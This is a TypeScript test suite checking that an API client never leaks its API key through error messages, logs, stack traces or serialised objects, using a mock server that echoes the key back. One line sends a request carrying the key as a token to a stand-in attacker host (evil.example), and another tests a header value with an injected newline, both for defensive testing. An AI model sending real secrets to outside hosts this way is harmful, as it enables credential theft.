import { inspect } from 'node:util';
import { ApiClientError } from '../index.js';
import { ApiClient } from './api-client.js';
import { closedPort } from '../testing-support/http-test-server.js';
import { client, failure, srv, useApiClientServer } from '../testing-support/api-client-harness.js';

useApiClientServer();

const rnd = () => `${Math.random().toString(36).slice(2)}${Date.now().toString(36)}`;
describe.each([
  // A key shaped like an OpenAI key (also caught by the key-shape patterns)...
  ['sk-canary', `sk-canary-${rnd()}`, 'authorization', (k: string) => `Bearer ${k}`],
  // ...and one no pattern recognises: only the client's own secret list can hide it.
  ['plain canary', `zq${rnd()}`, 'x-api-key', (k: string) => k],
] as const)('ApiClient never leaks its key (%s)', (_label, canary, header, headerValue) => {
  it('the key reaches the server and nothing else', async () => {
    // A hostile server that echoes the key in bodies and headers.
    srv.handle = (req, res) => {
      const path = (req.url ?? '/').split('?')[0]!;
      const auth = String(req.headers[header] ?? '');
      const m = /^\/status\/(\d{3})$/.exec(path);
      if (path === '/hang') return;
      if (path === '/reset') {
        res.writeHead(200, { 'content-type': 'application/json', 'content-length': '1000', 'x-echo': auth });
        res.write(`{"partial":"${auth}`);
        setTimeout(() => req.socket.destroy(), 5);
        return;
      }
      if (path === '/bad-json')
        return void res.writeHead(200, { 'content-type': 'application/json', 'x-echo': auth }).end(`{not json ${auth}`);
      if (path === '/text-error')
        return void res.writeHead(418, { 'content-type': 'text/plain', 'x-echo': auth }).end(`teapot says ${auth}`);
      const status = m !== null ? Number(m[1]) : 200;
      res.writeHead(status, {
        'content-type': 'application/json',
        'x-echo': auth,
        'x-request-id': auth.slice(7),
        'www-authenticate': auth,
      });
      res.end(JSON.stringify({ error: { message: `bad key ${auth} / ${auth.slice(7)}` }, request_id: auth }));
    };
    const lines: string[] = [];
    const logger = { debug: (m: string) => lines.push(m) };
    const c = client({ name: 'canary', headers: { [header]: headerValue(canary) }, logger });
    const outputs: string[] = [];
    const record = (x: unknown) => {
      outputs.push(inspect(x, { depth: 20, showHidden: true }), String(x), JSON.stringify(x) ?? '');
      if (x instanceof Error)
        outputs.push(x.message, x.stack ?? '', JSON.stringify((x as ApiClientError).toJSON?.() ?? {}));
    };
    try {
      await c.request('GET', '/ok', { params: { api_key: canary } }); // the body is the server's (echoes the key): not recorded
      for (const s of [400, 401, 403, 404, 408, 409, 410, 422, 429, 500, 503, 529])
        record(await failure(c.request('GET', `/status/${s}?key=${canary}`)));
      record(await failure(c.request('GET', '/reset')));
      record(await failure(c.request('GET', '/bad-json')));
      record(await failure(c.call({ method: 'POST', url: '/text-error', json: { q: 1 } })));
      record(await failure(c.call({ url: '/x', apiKey: canary } as never)));
      record(await failure(c.request('GET', '/hang', { timeoutMs: 30 })));
      record(await failure(c.request('GET', `http://evil.example/?token=${canary}`)));
      record(await failure(c.request('GET', '/x', { headers: { 'x-api-key': `${canary}\n` } })));
      const port = await closedPort();
      const down = new ApiClient({
        name: 'down',
        baseUrl: `http://127.0.0.1:${port}`,
        headers: { [header]: headerValue(canary) },
        logger,
      });
      record(await failure(down.request('GET', '/x')));
      record(down);
      await down.close();
      record(await failure(down.request('GET', '/x')));
      record(c);
    } finally {
      srv.handle = (await import('../testing-support/http-test-server.js')).defaultRoutes;
    }
    const sent = srv.received.filter((r) => r.headers[header] === headerValue(canary));
    expect(sent.length).toBe(17);
    expect(lines.length).toBeGreaterThanOrEqual(17);
    outputs.push(...lines);
    const leaks = outputs.filter((o) => o.includes(canary));
    expect(leaks).toEqual([]);
    // The output is still useful: statuses and redacted URLs are there.
    expect(lines.some((l) => l.includes('GET') && l.includes('429') && l.includes('key=[REDACTED]'))).toBe(true);
  });
});
